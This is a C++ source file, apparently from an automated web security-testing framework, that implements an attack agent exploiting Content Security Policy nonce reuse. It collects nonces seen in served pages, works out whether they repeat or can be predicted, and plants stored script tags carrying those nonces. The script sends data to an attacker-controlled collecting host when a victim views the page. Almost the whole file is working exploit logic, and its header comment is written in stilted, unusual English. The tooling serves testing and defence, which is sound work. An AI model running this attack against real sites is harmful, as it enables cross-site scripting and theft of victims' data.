// xss-nonce: leaves a script with the nonce of an earlier answer, since a nonce is for one, and
// with the next one where it can be foreseen (CSP3, "Nonce Reuse"; ASVS 5.0, 3.4.3). Where an
// answer came without chance drawn for it, its nonce may be one of a stock or belong to all who are
// not signed in: there he looks at many answers, and as nobody, too.
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/page_script.h"
#include "core/attack/session.h"
#include "core/attack/stored_text.h"
#include "core/attack/tags.h"

namespace parapet::attack {
namespace {

constexpr int kEnoughPages = 130;  // two rounds of a stock of 64
constexpr int kMostPages = 800;  // of a stock that is drawn from: its last nonce takes long to come

class XssNonce final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const address = collecting_address(*evil);
        StoredText text(target);
        std::vector<std::string> nonces = seen_in(text.pages());
        bool const draws = nonces.empty() || target.victim()->draws_for_each_page();
        if (!draws) nonces = seen_often(target, text, nonces);
        target.note(std::to_string(nonces.size()) + " nonces are seen in answers.");
        if (nonces.empty()) return;
        // Of those that were seen the first and the last, and the one that comes next.
        if (draws && nonces.size() > 2) nonces.erase(nonces.begin() + 1, nonces.end() - 1);
        nonces.push_back(target.victim()->foreseen_nonce());
        std::string const script = taking_script(target, address);
        std::string scripts;
        for (std::string const& nonce : nonces)
            scripts += "<script nonce=" + in_quotes(nonce) + ">" + script + "</script>";
        text.leave(scripts);
        if (!draws && !target.option(option::kFirst).empty())
            victim_does(target, routines_option(target, option::kFirst));
        victim_reads_and_loot_is_used(target);
    }

    // Until nothing of a stock has been new for long. All differ: it was no stock, and only the
    // last ones are kept.
    static std::vector<std::string> seen_often(Target& target, StoredText const& text,
                                               std::vector<std::string> nonces) {
        target.forget_cookies();
        std::vector<std::string> as_nobody = seen_in(text.pages());
        sign_in(target, target.surface().attacker);
        bool comes_round = false;
        int known_in_a_row = 0;
        for (int i = 0; i < (comes_round ? kMostPages : kEnoughPages); ++i) {
            ++known_in_a_row;
            for (std::string& each : seen_in(text.pages())) {
                bool const is_known = std::find(nonces.begin(), nonces.end(), each) != nonces.end();
                comes_round = comes_round || is_known;
                if (is_known) continue;
                nonces.push_back(std::move(each));
                known_in_a_row = 0;
            }
            if (known_in_a_row == kEnoughPages) break;
        }
        if (!comes_round) nonces = {nonces.front(), nonces.back()};
        nonces.insert(nonces.end(), as_nobody.begin(), as_nobody.end());
        return nonces;
    }

    static std::vector<std::string> seen_in(std::vector<std::string> const& pages) {
        std::vector<std::string> nonces;
        for (std::string const& page : pages)
            for (Tag const& tag : tags_in(page))
                if (auto const nonce = tag.attribute("nonce"); nonce && !nonce->empty())
                    if (nonces.empty() || nonces.back() != *nonce) nonces.push_back(*nonce);
        return nonces;
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_nonce() { return std::make_unique<XssNonce>(); }

}  // namespace parapet::attack
